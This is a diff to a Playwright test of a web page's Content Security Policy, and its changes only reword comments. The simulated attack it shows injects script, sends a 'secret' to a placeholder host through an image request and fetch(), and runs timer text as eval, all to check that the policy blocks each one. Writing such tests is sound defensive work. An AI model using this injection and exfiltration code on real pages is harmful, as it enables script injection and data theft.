@@ -1,6 +1,6 @@
 /**
- * Nothing runs and nothing is fetched but what lies beside the page. No page needs more: the console reports what is
- * forbidden, and every test of every page listens to it.
+ * Nothing runs and nothing is fetched but what ships with the page. No page needs more: the console reports violations,
+ * and every page test listens to it.
  */
 import type { Page } from '@playwright/test';
 import { Site } from './site.ts';
@@ -8,7 +8,7 @@ import { expect, test } from './table.ts';
 
 declare global {
   interface Window {
-    /** What the policy forbade, and the names of scripts that ran though they must not. */
+    /** What the policy blocked, and the names of scripts that ran though they must not. */
     forbidden: string[];
     ran: string[];
   }
@@ -27,7 +27,7 @@ test.beforeEach(async ({ page }) => {
 
 const forbidden = (page: Page): Promise<readonly string[]> => page.evaluate(() => window.forbidden);
 
-/** As somebody would who found a way to write into the page. */
+/** Like somebody who found a way to inject into the page. */
 async function attack(page: Page): Promise<void> {
   await page.evaluate(() => {
     const script = document.createElement('script');
@@ -44,7 +44,7 @@ async function attack(page: Page): Promise<void> {
     button.click();
     new Image().src = 'https://elsewhere.example/?secret';
     fetch('https://elsewhere.example/?secret').catch(() => undefined);
-    // A text given to a timer is run as by eval, and a test that calls eval itself would be let through.
+    // Text given to a timer runs as by eval; a test calling eval itself would be let through.
     // oxlint-disable-next-line typescript/no-implied-eval
     setTimeout(`ran.push('eval')`);
   });
@@ -65,7 +65,7 @@ test('what is written into the page does not run', async ({ page, complaints }) 
   const response = await page.goto('./');
   expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
   await attack(page);
-  // Header and page forbid each of it, so that each is reported twice.
+  // Header and page each forbid it, so each violation is reported twice.
   await expect.poll(async () => [...new Set(await forbidden(page))].toSorted()).toEqual(FORBIDDEN);
   expect(await page.evaluate(() => window.ran)).toEqual([]);
   // The console reports each, once for the header and once for the page.
